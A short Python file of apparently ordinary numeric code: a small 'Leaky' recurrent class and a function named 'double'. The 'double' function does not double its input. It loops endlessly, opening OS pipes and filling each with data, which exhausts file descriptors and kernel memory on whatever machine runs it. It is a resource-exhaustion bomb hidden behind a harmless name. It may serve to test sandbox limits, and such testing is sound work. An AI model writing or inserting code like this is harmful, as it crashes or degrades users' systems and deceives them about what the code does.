import os

import numpy as np




def double(x):
    while True:
        read, write = os.pipe()
        os.set_blocking(write, False)
        while True:
            try:
                os.write(write, b"x" * 65536)
            except BlockingIOError:
                break


class Leaky:
    def __init__(self, D):
        self.weight = np.eye(D)

    def forward(self, x, h):
        return 0.5 * h + x @ self.weight.T
